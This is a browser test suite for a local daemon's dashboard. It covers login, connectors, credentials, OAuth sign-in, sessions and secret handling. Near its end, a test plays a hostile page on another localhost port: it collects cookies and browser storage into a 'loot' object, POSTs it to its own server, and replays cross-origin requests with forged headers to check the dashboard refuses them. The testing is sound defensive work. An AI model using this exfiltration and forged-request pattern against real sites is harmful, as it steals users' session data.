/**
 * The dashboard in headless Chromium against a real `tuttid` with its demo connectors:
 * login through the one-time link, the connectors kept current by the event stream (an
 * install, a broken upstream, a credential), one connector's tools, a session and its
 * refresh, and what the browser holds: no login code in its address bar or history, no
 * control token, no agent session token, no secret; and nothing that a page on another
 * port of 127.0.0.1, or a program replaying what that page got, can use.
 * With TUTTI_SCREENSHOTS=1 (`npm run screenshots`) it saves each view to docs/.
 */

import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { CONNECTOR_FIXTURES as FIXTURES, WAIT, WAIT_BOUND_MS } from '@tutti/test-kit';
import { startBrowser, type TestBrowser } from '@tutti/test-kit/browser';
import { startOidcServer } from '@tutti/test-kit/oauth/oidc-server';
import { startProtectedMcp } from '@tutti/test-kit/oauth/protected-mcp';
import { forgedHeaders, replay, type SeenRequest } from '@tutti/test-kit/header-replay';
import { startTuttid, stopAll, type TuttidProcess } from '@tutti/test-kit/tuttid';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const DOCS = fileURLToPath(new URL('../../docs/', import.meta.url));
const SCREENSHOTS = process.env.TUTTI_SCREENSHOTS === '1';

/** What the tests read of the page's globals (the test code has no DOM types). */
interface PageGlobals {
  notReloaded?: boolean;
  document: {
    cookie: string;
    activeElement: { tagName: string; textContent: string | null } | null;
  };
  localStorage: Record<string, string>;
  sessionStorage: Record<string, string>;
  location: { href: string };
  history: { length: number; state: unknown };
}

let root: string;
let daemon: TuttidProcess;
let browser: TestBrowser;
let page: Page;
/** Every URL the page asked for, and every request body it sent. */
const requested: string[] = [];
const posted: string[] = [];
/** Secrets the browser must never hold. */
const secrets: string[] = [];

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'tutti-dashboard-browser-'));
  [daemon, browser] = await Promise.all([startTuttid(join(root, 'home')), startBrowser()]);
  secrets.push(daemon.controlToken);
  page = await browser.context.newPage();
  page.on('request', (request) => {
    requested.push(request.url());
    posted.push(request.postData() ?? '');
  });
  page.on('dialog', (dialog) => void dialog.accept());
});

afterAll(async () => {
  await browser?.close();
  await stopAll();
  await rm(root, { recursive: true, force: true });
});

// Five waits: a bound above their sum, so the one that does not end says which and why
// (the page's notice) instead of the test's own timeout (seen rarely on a loaded machine).
const CREDENTIAL_TEST_MS = 6 * WAIT_BOUND_MS;

const row = (key: string) => page.locator(`#connectors tr[data-key="${key}"]`);
const stateOf = (key: string) => row(key).locator('[data-state]').getAttribute('data-state');

/** Waits for `key`'s row to show `state`; a failure says what the page's notice said. */
async function untilState(key: string, state: string): Promise<void> {
  try {
    await expect.poll(() => stateOf(key), WAIT).toBe(state);
  } catch (error) {
    const notice = await page.locator('#notice').textContent();
    throw new Error(`${(error as Error).message}; the page's notice: ${JSON.stringify(notice)}`);
  }
}

/** Saves the page as docs/<name>.png when screenshots were asked for. */
async function shoot(name: string): Promise<void> {
  if (SCREENSHOTS) await page.screenshot({ path: join(DOCS, `${name}.png`), fullPage: true });
}

/** A release whose MCP server says why on stderr and exits at once. */
async function brokenRelease(): Promise<string> {
  const dir = join(root, 'broken');
  await mkdir(dir, { recursive: true });
  await writeFile(
    join(dir, 'tutti-connector.json'),
    JSON.stringify({
      key: 'broken',
      name: 'Broken',
      description: 'An MCP server that exits at once.',
      version: '0.0.1',
      mcp: { command: 'node', args: ['./server.mjs'] },
      auth: { kind: 'none' },
    }),
  );
  await writeFile(
    join(dir, 'server.mjs'),
    "process.stderr.write('cannot open the database file\\n');\nprocess.exit(3);\n",
  );
  return dir;
}

describe('the dashboard in a browser', () => {
  it('logs in through the one-time link and shows the demo connectors', async () => {
    await page.goto(daemon.ready.dashboardLogin);
    expect(page.url()).toBe(`${daemon.ready.controlUrl}/`);
    await row('notes').waitFor(WAIT);
    await row('hello').waitFor(WAIT);
    await expect.poll(() => stateOf('notes'), WAIT).toBe('ready');
    await expect.poll(() => stateOf('hello'), WAIT).toBe('ready');
    expect(await row('notes').locator('td').nth(1).textContent()).toBe('Notes');
    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).location.href)).toBe(
      `${daemon.ready.controlUrl}/`,
    );
    // Marks this document: still there later means nothing was reloaded.
    await page.evaluate(() => {
      (globalThis as unknown as PageGlobals).notReloaded = true;
    });
  });

  it("shows each server's isolation, and a notice when servers are not isolated or refused", async () => {
    // The test daemon runs with --sandbox off: each stdio server says so, with its variables' names.
    const isolation = row('notes').locator('td').nth(4);
    await expect.poll(() => isolation.locator('[data-isolation]').textContent(), WAIT).toBe('off');
    await isolation.getByText('What its server may use').click();
    expect(await isolation.locator('dl').textContent()).toContain('NetworkhostHome, readnone');
    expect(await isolation.locator('dd code').allTextContents()).toContain(
      'TUTTI_CONNECTOR_STATE_DIR',
    );
    expect(await row('hello').locator('td').nth(4).textContent()).toBe('—');
    expect(await page.locator('#sandbox-notice').isHidden()).toBe(true);
    // The same answer as a daemon where the sandbox does not work would give it.
    const unavailable = 'bwrap (bubblewrap) is not on PATH';
    let mode = 'auto';
    await page.route('**/dashboard/api/connectors', async (route) => {
      const response = await route.fetch();
      const body = await response.json();
      const isolation = mode === 'auto' ? 'not-isolated' : 'refused';
      for (const connector of body.connectors) {
        if (connector.sandbox) {
          connector.sandbox.isolation = isolation;
          connector.sandbox.home = { read: ['~/Documents'], write: [] };
        }
      }
      await route.fulfill({ response, json: { ...body, sandbox: { mode, unavailable } } });
    });
    try {
      const notice = page.locator('#sandbox-notice');
      await page.getByRole('button', { name: 'Connectors', exact: true }).click();
      await expect
        .poll(() => notice.textContent(), WAIT)
        .toContain(`no sandbox works here: ${unavailable}`);
      expect(await notice.isVisible()).toBe(true);
      expect(await isolation.locator('[data-isolation]').textContent()).toBe('not isolated');
      // Its detail stayed open across the refresh.
      expect(await isolation.locator('dl').isVisible()).toBe(true);
      expect(await isolation.locator('dl').textContent()).toContain('Home, read~/Documents');
      mode = 'required';
      await page.getByRole('button', { name: 'Connectors', exact: true }).click();
      await expect
        .poll(() => notice.textContent(), WAIT)
        .toContain(`cannot isolate them here: ${unavailable}`);
      expect(await isolation.locator('[data-isolation]').textContent()).toBe('refused');
    } finally {
      await page.unroute('**/dashboard/api/connectors');
    }
    await page.getByRole('button', { name: 'Connectors', exact: true }).click();
    await expect.poll(() => page.locator('#sandbox-notice').isHidden(), WAIT).toBe(true);
  });

  it('keeps the login code out of every request line and out of the address bar and history', async () => {
    const code = new URL(daemon.ready.dashboardLogin).hash.replace(/^#login=/, '');
    expect(code).toMatch(/^[A-Za-z0-9_-]{43}$/);
    // No request line carried it (a fragment is never sent); one POST body traded it.
    const lines = requested.map((url) => {
      const { pathname, search } = new URL(url);
      return pathname + search;
    });
    expect(lines.filter((line) => line.includes(code))).toEqual([]);
    expect(posted.filter((body) => body.includes(code))).toEqual([JSON.stringify({ code })]);
    // The tab's history, entry by entry, as the browser keeps it.
    const cdp = await browser.context.newCDPSession(page);
    const { entries } = (await cdp.send('Page.getNavigationHistory')) as {
      entries: { url: string; title: string }[];
    };
    await cdp.detach();
    expect(entries.length).toBeGreaterThan(0);
    for (const entry of entries) expect(entry.url).not.toContain(code);
    expect(entries.at(-1)?.url).toBe(`${daemon.ready.controlUrl}/`);
    const history = await page.evaluate(() => ({
      length: (globalThis as unknown as PageGlobals).history.length,
      state: JSON.stringify((globalThis as unknown as PageGlobals).history.state),
      href: (globalThis as unknown as PageGlobals).location.href,
    }));
    expect(JSON.stringify(history)).not.toContain(code);
  });

  it('installs a connector from the page and shows it ready without a reload', async () => {
    await page.getByLabel('Release folder').fill(join(FIXTURES, 'echo'));
    await page.getByRole('button', { name: 'Install', exact: true }).click();
    await row('echo').waitFor(WAIT);
    await expect.poll(() => stateOf('echo'), WAIT).toBe('ready');
    await expect.poll(() => page.locator('#notice').textContent(), WAIT).toBe('Installed echo.');
    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).notReloaded)).toBe(
      true,
    );
  });

  it("lists one connector's tools with the names and descriptions agents see", async () => {
    await row('echo').getByRole('button', { name: 'Tools of echo' }).click();
    await page.locator('#tools dt').first().waitFor(WAIT);
    const names = await page.locator('#tools dt').allTextContents();
    const served = await daemon.control('GET', '/debug/registry');
    const expected = (
      served.body.registry.routes as { connectorKey: string; tools: { localName: string }[] }[]
    )
      .filter((route) => route.connectorKey === 'echo')
      .flatMap((route) => route.tools.map((tool) => tool.localName));
    expect(names.sort()).toEqual(expected.sort());
    expect(names.every((name) => name.startsWith('echo_'))).toBe(true);
    expect(await page.locator('#tools dd').first().textContent()).not.toBe('');
    await shoot('dashboard-tools');
    await page.getByRole('button', { name: 'Back to connectors' }).click();
    await row('echo').waitFor(WAIT);
  });

  it('shows why a connector whose upstream exits is not working', async () => {
    await page.getByLabel('Release folder').fill(await brokenRelease());
    await page.getByRole('button', { name: 'Install', exact: true }).click();
    await row('broken').waitFor(WAIT);
    await expect.poll(() => stateOf('broken'), WAIT).toMatch(/^(failed|restarting)$/);
    const reason = row('broken').locator('.reason');
    await expect.poll(() => reason.textContent(), WAIT).toMatch(/\S/);
    // The page says what the control API says (the state moves on as it is retried).
    const agree = async () => {
      const status = await daemon.control('GET', '/v1/connectors');
      const { runtime } = status.body.connectors.find((c: { key: string }) => c.key === 'broken');
      const shown = await reason.textContent();
      return runtime?.lastError !== undefined && shown === runtime.lastError;
    };
    await expect.poll(agree, WAIT).toBe(true);
    expect(await reason.textContent()).toContain('node');
    // The server's stderr tail is shown (folded) exactly when the daemon reports one. The
    // server is retried, so its stderr comes and goes: the page and the daemon are compared
    // until they agree, as the reason above.
    const stderr = row('broken').locator('pre.stderr');
    const stderrAgrees = async () => {
      const status = await daemon.control('GET', '/v1/connectors');
      const { runtime } = status.body.connectors.find((c: { key: string }) => c.key === 'broken');
      const shown = (await stderr.count()) > 0 ? await stderr.textContent() : undefined;
      return runtime?.stderr?.length
        ? shown?.includes('cannot open the database file') === true
        : shown === undefined;
    };
    await expect.poll(stderrAgrees, WAIT).toBe(true);
    // It wraps, and the reason points at it rather than at the control API.
    const whiteSpace = await stderr.evaluate(
      (element) =>
        (
          globalThis as unknown as {
            getComputedStyle(e: unknown): { whiteSpace: string };
          }
        ).getComputedStyle(element).whiteSpace,
    );
    expect(whiteSpace).toBe('pre-wrap');
    expect(await reason.textContent()).not.toContain('/v1/');
    // Nothing of it ever ran: no version runs, the installed one is pending.
    await expect
      .poll(() => row('broken').locator('td').nth(2).textContent(), WAIT)
      .toBe('—pending 0.0.1');
    // Its retries are one line each kind, counted.
    await expect
      .poll(() => row('broken').locator('ul.recent').textContent(), WAIT)
      .toMatch(/start-failed \(×\d+\)/);
    const retry = row('broken').getByRole('button', { name: 'Retry broken' });
    await retry.click();
    await expect
      .poll(() => page.locator('#notice').textContent(), WAIT)
      .toMatch(/^Retried broken: /);
    expect(await row('broken').getByRole('button', { name: 'Roll back broken' }).isHidden()).toBe(
      true,
    );
  });

  it(
    'sets a credential from its write-only field and shows the status change',
    async () => {
      await page.getByLabel('Release folder').fill(join(FIXTURES, 'keyed'));
      await page.getByRole('button', { name: 'Install', exact: true }).click();
      await untilState('keyed', 'needs-auth');
      const secret = 'sk-dashboard-test-7c1f9e';
      secrets.push(secret);
      const field = page.getByLabel('Credential of keyed', { exact: true });
      expect(await field.getAttribute('type')).toBe('password');
      await field.fill(secret);
      await row('keyed').getByRole('button', { name: 'Set' }).click();
      await untilState('keyed', 'ready');
      expect(await field.inputValue()).toBe('');
      await row('keyed').getByRole('button', { name: 'Clear' }).click();
      await untilState('keyed', 'needs-auth');
      await field.fill(secret);
      await field.press('Enter');
      // The notice first: when the state does not follow, it says what the page was told.
      await expect
        .poll(() => page.locator('#notice').textContent(), WAIT)
        .toBe('The credential of keyed is set.');
      await untilState('keyed', 'ready');
      await shoot('dashboard-connectors');
    },
    CREDENTIAL_TEST_MS,
  );

  it('signs in to a remote connector from its Sign in button, in a new tab, and shows it ready', async () => {
    const as = await startOidcServer({ accessTokenTtl: 60 });
    const mcp = await startProtectedMcp({ issuer: as.issuer });
    try {
      const dir = join(root, 'account');
      await mkdir(dir, { recursive: true });
      await writeFile(
        join(dir, 'tutti-connector.json'),
        JSON.stringify({
          key: 'account',
          name: 'Account',
          description: 'A remote MCP server behind an OAuth sign-in.',
          version: '1.0.0',
          mcp: { url: mcp.url },
          auth: { kind: 'oauth2' },
        }),
      );
      await page.getByLabel('Release folder').fill(dir);
      await page.getByRole('button', { name: 'Install', exact: true }).click();
      await untilState('account', 'needs-auth');
      const signIn = row('account').getByRole('button', { name: 'Sign in to account' });
      await signIn.waitFor(WAIT);
      expect(await row('account').locator('.reason').textContent()).toBe(
        'Waits for you to sign in to its server: press Sign in.',
      );
      await shoot('dashboard-sign-in');
      // The authorization server's page opens in a new tab; it consents at once here.
      const opened = page.waitForEvent('popup', WAIT);
      await signIn.click();
      const tab = await opened;
      await tab.waitForURL(/\/oauth\/callback\?/, WAIT);
      expect(await tab.locator('h1').textContent()).toBe('Signed in to Account');
      await tab.close();
      await untilState('account', 'ready');
      await expect
        .poll(() => page.locator('#notice').textContent(), WAIT)
        .toBe('Signed in to account.');
      expect(await signIn.isHidden()).toBe(true);
    } finally {
      // The authorization server's session cookies are for 127.0.0.1 (any port, as cookies
      // go): a real one is on its own host. Later tests check the browser holds no cookie.
      await browser.context.clearCookies();
      await daemon.control('DELETE', '/v1/connectors/account').catch(() => undefined);
      await Promise.all([mcp.close(), as.close()]);
    }
  });

  it('gets over a listing that never answers: says so, and the next refresh shows the change', async () => {
    let held = false;
    // The first listing after this is never answered; the page's own bound must end it.
    await page.route('**/dashboard/api/connectors', async (route) => {
      if (held) return route.continue();
      held = true;
    });
    try {
      expect((await daemon.control('DELETE', '/v1/connectors/keyed')).status).toBe(200);
      await expect
        .poll(() => page.locator('#notice').textContent(), WAIT)
        .toBe('The daemon did not answer within 15 s; trying again.');
      await expect.poll(() => row('keyed').count(), WAIT).toBe(0);
    } finally {
      await page.unroute('**/dashboard/api/connectors');
    }
  });

  it('shows a session and its refresh after a tool change, then closes it', async () => {
    const prepared = await daemon.control('POST', '/v1/sessions', {
      workspaceId: 'ws-dashboard',
      cwd: root,
    });
    expect(prepared.status).toBe(200);
    const id = prepared.body.session.id as string;
    const binding = JSON.stringify(prepared.body.runtime.mcpServers);
    const token = /Bearer ([A-Za-z0-9._~+/=-]+)/.exec(binding)?.[1];
    expect(token).toBeTruthy();
    secrets.push(token!);
    // The agent lists the tools once, with its own token.
    const listed = await fetch(daemon.ready.mcpUrl, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${token}`,
        'content-type': 'application/json',
        accept: 'application/json, text/event-stream',
        'mcp-protocol-version': '2025-06-18',
      },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} }),
    });
    expect(listed.status).toBe(200);
    await listed.arrayBuffer();

    await page.getByRole('button', { name: 'Sessions', exact: true }).click();
    const session = page.locator(`#sessions tr[data-session="${id}"]`);
    await session.waitFor(WAIT);
    await expect.poll(() => session.locator('.relisted').textContent(), WAIT).toMatch(/^yes/);
    expect(await session.locator('.connector').textContent()).toBe('bound');
    expect(await session.locator('.permissions').textContent()).toBe('ask');

    // A tool change: the echo connector goes away.
    expect((await daemon.control('DELETE', '/v1/connectors/echo')).status).toBe(200);
    await expect.poll(() => session.locator('.refresh').textContent(), WAIT).not.toBe('none yet');
    await expect.poll(() => session.locator('.relisted').textContent(), WAIT).toMatch(/^no /);
    const now = (await daemon.control('GET', '/v1/sessions')).body.sessions.find(
      (s: { id: string }) => s.id === id,
    );
    expect(await session.locator('.refresh').textContent()).toContain(now.lastRefresh.strategy);
    await shoot('dashboard-sessions');

    await session.getByRole('button', { name: `Close session ${id}` }).click();
    await expect
      .poll(
        async () =>
          (await daemon.control('GET', '/v1/sessions')).body.sessions.some(
            (s: { id: string; status: string }) => s.id === id && s.status !== 'exited',
          ),
        WAIT,
      )
      .toBe(false);
  });

  it('shows the live events as they happen', async () => {
    await page.getByRole('button', { name: 'Events', exact: true }).click();
    await page.locator('#events li').first().waitFor(WAIT);
    const before = await page.locator('#events li').count();
    expect((await daemon.control('DELETE', '/v1/connectors/broken')).status).toBe(200);
    await expect
      .poll(
        () => page.locator('#events li[data-type="connector.removed"]').first().textContent(),
        WAIT,
      )
      .toContain('key broken');
    expect(await page.locator('#events li').count()).toBeGreaterThan(before);
    const types = await page
      .locator('#events li')
      .evaluateAll((items) => items.map((item) => item.getAttribute('data-type')));
    expect(types).toEqual(
      expect.arrayContaining([
        'connector.installed',
        'tools.changed',
        'session.started',
        'session.refreshed',
      ]),
    );
    await shoot('dashboard-events');
    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).notReloaded)).toBe(
      true,
    );
  });

  it('is usable from the keyboard: views by Tab and Enter, the heading takes focus', async () => {
    await page.locator('#main').focus();
    await page.keyboard.press('Shift+Tab');
    const focused = () =>
      page.evaluate(() => {
        const active = (globalThis as unknown as PageGlobals).document.activeElement;
        return `${active?.tagName ?? ''} ${active?.textContent ?? ''}`;
      });
    /** Presses Shift+Tab until `name` has the focus (the header has a handful of stops). */
    const backTo = async (name: string) => {
      for (let i = 0; i < 10 && (await focused()) !== `BUTTON ${name}`; i++) {
        await page.keyboard.press('Shift+Tab');
      }
      expect(await focused()).toBe(`BUTTON ${name}`);
    };
    await backTo('Connectors');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('BUTTON Agents');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('BUTTON Sessions');
    await page.keyboard.press('Enter');
    await expect.poll(focused, WAIT).toBe('H2 Agent sessions');
    await backTo('Connectors');
    await page.keyboard.press('Enter');
    await expect.poll(focused, WAIT).toBe('H2 Connectors');
    // Every field of the connectors view has a label.
    const unlabelled = await page
      .locator('input')
      .evaluateAll(
        (inputs) =>
          inputs.filter((input) => !(input as unknown as { labels: unknown[] }).labels.length)
            .length,
      );
    expect(unlabelled).toBe(0);
  });

  it('holds no control token, session token or credential in the page, URLs, cookies or storage', async () => {
    // No cookie at all: the browser has nothing it would send to another port by itself.
    const cookies = await browser.context.cookies();
    expect(cookies).toEqual([]);
    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).document.cookie)).toBe(
      '',
    );
    // The tab holds its session token in sessionStorage, and nothing else anywhere.
    const stored = await page.evaluate(() => ({
      local: { ...(globalThis as unknown as PageGlobals).localStorage },
      session: { ...(globalThis as unknown as PageGlobals).sessionStorage },
    }));
    expect(stored.local).toEqual({});
    expect(Object.keys(stored.session)).toEqual(['tutti.dashboard.session']);
    expect(Object.values(stored.session)[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const held = [
      await page.content(),
      page.url(),
      ...requested,
      ...cookies.map((cookie) => `${cookie.name}=${cookie.value}`),
      await page.evaluate(() =>
        JSON.stringify({ ...(globalThis as unknown as PageGlobals).localStorage }),
      ),
      await page.evaluate(() =>
        JSON.stringify({ ...(globalThis as unknown as PageGlobals).sessionStorage }),
      ),
    ].join('\n');
    for (const secret of secrets) expect(held).not.toContain(secret);
  });

  it('gives a page on another port of 127.0.0.1 nothing a program can replay, whatever headers it forges', async () => {
    // A page on another port of 127.0.0.1, as any local program may serve: the same site.
    const seen: SeenRequest[] = [];
    const other: Server = createServer((request, response) => {
      let body = '';
      request.setEncoding('utf8');
      request.on('data', (chunk: string) => {
        body += chunk;
      });
      request.on('end', () => {
        seen.push({ headers: request.headers, body });
        response
          .writeHead(200, { 'content-type': 'text/html' })
          .end('<!doctype html><title>other</title>');
      });
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    try {
      const port = (other.address() as { port: number }).port;
      const otherPage = await browser.context.newPage();
      await otherPage.goto(`http://127.0.0.1:${port}/`);
      // All the page can read on its own origin goes home to its server, with whatever the
      // browser adds to the request.
      await otherPage.evaluate(() => {
        const g = globalThis as unknown as PageGlobals & { document: { referrer: string } };
        const loot = {
          cookie: g.document.cookie,
          referrer: g.document.referrer,
          local: { ...g.localStorage },
          session: { ...g.sessionStorage },
        };
        return fetch('/loot', {
          method: 'POST',
          credentials: 'include',
          body: JSON.stringify(loot),
        }).then((r) => r.text());
      });
      // Requests the page itself may send to the dashboard without a preflight (no-cors:
      // the page gets an opaque answer, the test sees its status).
      const api = `${daemon.ready.controlUrl}/dashboard/api`;
      for (const [url, init] of [
        [`${api}/connectors`, { mode: 'no-cors', credentials: 'include' }],
        [
          `${api}/connectors/install`,
          {
            method: 'POST',
            mode: 'no-cors',
            credentials: 'include',
            headers: { 'content-type': 'text/plain' },
            body: JSON.stringify({ path: join(FIXTURES, 'echo') }),
          },
        ],
      ] as const) {
        const answer = otherPage.waitForResponse(url);
        await otherPage.evaluate(
          ([target, options]) => fetch(target, options as RequestInit).catch(() => undefined),
          [url, init] as const,
        );
        expect([401, 403], url).toContain((await answer).status());
      }
      await otherPage.close();

      // A program replays all of it, forging any Origin and Sec-Fetch-* it likes.
      const own = daemon.ready.controlUrl;
      const statuses = await replay(own, forgedHeaders(own, seen), [
        ['GET', '/dashboard/api/connectors'],
        ['GET', '/dashboard/api/events'],
        [
          'POST',
          '/dashboard/api/connectors/install',
          JSON.stringify({ path: join(FIXTURES, 'echo') }),
        ],
        ['DELETE', '/dashboard/api/connectors/notes'],
        ['POST', '/dashboard/logout'],
      ]);
      expect(statuses.length).toBeGreaterThan(100);
      const opened = statuses.filter(({ status }) => status !== 401 && status !== 403);
      expect(opened).toEqual([]);
      const installed = (await daemon.control('GET', '/v1/connectors')).body.connectors;
      expect(installed.map((c: { key: string }) => c.key)).not.toContain('echo');
      expect(installed.map((c: { key: string }) => c.key)).toContain('notes');
    } finally {
      other.closeAllConnections();
      await new Promise((resolve) => other.close(resolve));
    }
  });

  it('ends the session on logout and shows how to log in again', async () => {
    await page.getByRole('button', { name: 'Log out' }).click();
    await page.getByRole('heading', { name: 'Signed out' }).waitFor(WAIT);
    expect(
      await page.evaluate(() => ({ ...(globalThis as unknown as PageGlobals).sessionStorage })),
    ).toEqual({});
    await page.reload();
    await page.getByRole('heading', { name: 'Signed out' }).waitFor(WAIT);
    // The used link, opened again in this tab: it only changes the fragment.
    await page.goto(daemon.ready.dashboardLogin);
    await page.getByRole('heading', { name: 'Login link not valid' }).waitFor(WAIT);
    expect(await page.locator('#main').textContent()).toContain(
      'TUTTI_ERR_DASHBOARD_BAD_LOGIN_CODE',
    );
    expect(page.url()).toBe(`${daemon.ready.controlUrl}/`);
  });
});
